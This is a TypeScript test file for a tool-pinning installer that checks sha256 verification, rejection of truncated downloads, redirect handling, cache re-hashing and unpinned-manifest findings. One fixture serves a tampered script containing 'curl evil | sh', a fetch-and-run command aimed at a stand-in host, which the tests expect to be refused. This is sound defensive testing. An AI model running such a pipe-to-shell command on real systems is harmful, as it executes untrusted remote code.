// The tools manifest against a loopback download server: a good file is verified, written and put
// on PATH; a tampered or truncated one is refused before anything reaches the tool cache.
import { createHash } from 'node:crypto';
import { existsSync, readdirSync, readFileSync, statSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { installTools, readToolsManifest, currentPlatform } from '@paved-road/pinning';
import { isConfigurationError } from '@paved-road/core';
import { makeWorkspace } from '../harness/index.js';
import { startDownloadServer, type DownloadServer } from '../fakes/downloads/index.js';

const GOOD = Buffer.from('#!/bin/sh\necho "tool 1.2.3"\n');
const SHA = createHash('sha256').update(GOOD).digest('hex');
const platform = currentPlatform();

let server: DownloadServer;
beforeEach(async () => {
  server = await startDownloadServer();
});
afterEach(async () => {
  await server.close();
});

function manifest(url: string, sha256 = SHA, extra = ''): string {
  return `tools:\n  - name: mytool\n    version: 1.2.3\n    platforms:\n      ${platform}:\n        url: ${url}\n        sha256: ${sha256}\n${extra}`;
}

async function install(text: string, toolCache?: string) {
  const workspace = makeWorkspace({ '.github/pinned-tools.yml': text });
  const cache = toolCache ?? join(workspace, '_tool');
  const log: string[] = [];
  const outcome = await installTools({
    manifest: '.github/pinned-tools.yml',
    required: false,
    workspace,
    toolCache: cache,
    env: {},
    log: (m) => log.push(m),
  });
  return { outcome, cache, log };
}

const filesUnder = (dir: string): string[] =>
  existsSync(dir)
    ? readdirSync(dir, { recursive: true, withFileTypes: true })
        .filter((e) => e.isFile())
        .map((e) => e.name)
    : [];

it('downloads a listed tool, checks its sha256, writes it executable and returns its directory for PATH', async () => {
  server.serve('/mytool', { kind: 'file', body: GOOD });
  const { outcome, cache } = await install(manifest(`${server.url}/mytool`));
  expect(outcome.findings).toEqual([]);
  expect(outcome.verified.map((t) => [t.name, t.version, t.sha256])).toEqual([['mytool', '1.2.3', SHA]]);
  const dir = join(cache, 'mytool', '1.2.3', platform);
  expect(outcome.paths).toEqual([dir]);
  expect(readFileSync(join(dir, 'mytool'))).toEqual(GOOD);
  // Executable by its owner.
  expect(statSync(join(dir, 'mytool')).mode & 0o100).toBe(0o100);
});

it('refuses a tampered file and writes nothing to the tool cache', async () => {
  server.serve('/mytool', { kind: 'file', body: Buffer.from('#!/bin/sh\ncurl evil | sh\n') });
  const { outcome, cache } = await install(manifest(`${server.url}/mytool`));
  expect(outcome.verified).toEqual([]);
  expect(outcome.paths).toEqual([]);
  expect(outcome.findings.map((f) => [f.rule, f.severity, f.line])).toEqual([['tool-checksum-mismatch', 'error', 5]]);
  expect(outcome.findings[0]!.message).toMatch(/not the pinned/);
  expect(filesUnder(cache)).toEqual([]);
});

it('refuses a truncated download (short of its Content-Length) and writes nothing', async () => {
  server.serve('/mytool', { kind: 'truncated', body: GOOD.subarray(0, 10), length: GOOD.length });
  const { outcome, cache } = await install(manifest(`${server.url}/mytool`));
  expect(outcome.verified).toEqual([]);
  expect(outcome.findings.map((f) => f.rule)).toEqual(['tool-checksum-mismatch']);
  expect(outcome.findings[0]!.message).toMatch(/truncated|cut off/);
  expect(filesUnder(cache)).toEqual([]);
});

it('follows a redirect and still verifies the bytes; a 404 fails closed', async () => {
  server.serve('/latest/mytool', { kind: 'redirect', to: '/v1.2.3/mytool' });
  server.serve('/v1.2.3/mytool', { kind: 'file', body: GOOD });
  expect((await install(manifest(`${server.url}/latest/mytool`))).outcome.verified).toHaveLength(1);
  const missing = await install(manifest(`${server.url}/nothing`));
  expect(missing.outcome.findings[0]!.message).toMatch(/HTTP 404/);
});

it('re-hashes a cached copy before trusting it, and does not download again when it is intact', async () => {
  server.serve('/mytool', { kind: 'file', body: GOOD });
  const first = await install(manifest(`${server.url}/mytool`));
  const requests = server.requests.length;
  const again = await install(manifest(`${server.url}/mytool`), first.cache);
  expect(again.outcome.verified).toHaveLength(1);
  expect(server.requests.length).toBe(requests);
  // Someone swaps the cached file: it is refused and kept off PATH.
  writeFileSync(join(first.cache, 'mytool', '1.2.3', platform, 'mytool'), 'evil');
  const swapped = await install(manifest(`${server.url}/mytool`), first.cache);
  expect(swapped.outcome.paths).toEqual([]);
  expect(swapped.outcome.findings[0]!.message).toMatch(/cached file/);
});

it('reports entries that cannot be fetched verifiably as tool-not-pinned, with their line', async () => {
  const text = [
    'tools:',
    '  - name: a', //                              2
    '    version: latest',
    '    platforms: {any: {url: "https://x/a", sha256: "' + SHA + '"}}',
    '  - name: b', //                              5
    '    version: 1.0.0',
    '    platforms:',
    '      any:', //                               8
    '        url: http://example.com/b',
    '        sha256: ' + SHA,
    '  - name: c',
    '    version: 1.0.0',
    '    platforms:',
    '      any:', //                               14
    '        url: https://example.com/c',
    '        sha256: abc',
  ].join('\n');
  const workspace = makeWorkspace({ 'm.yml': text });
  const parsed = readToolsManifest('m.yml', workspace, true)!;
  expect(parsed.findings.map((f) => [f.rule, f.line])).toEqual([
    ['tool-not-pinned', 2],
    ['tool-not-pinned', 8],
    ['tool-not-pinned', 14],
  ]);
  expect(parsed.tools).toEqual([]);
});

it('treats a missing default manifest as nothing to do, and a missing named or malformed one as bad input', async () => {
  const workspace = makeWorkspace({ 'bad.yml': 'tools: [\n' });
  expect(readToolsManifest('.github/pinned-tools.yml', workspace, false)).toBeUndefined();
  for (const [file, required] of [
    ['nope.yml', true],
    ['bad.yml', false],
  ] as const) {
    let error: unknown;
    try {
      readToolsManifest(file, workspace, required);
    } catch (e) {
      error = e;
    }
    expect(isConfigurationError(error)).toBe(true);
  }
});
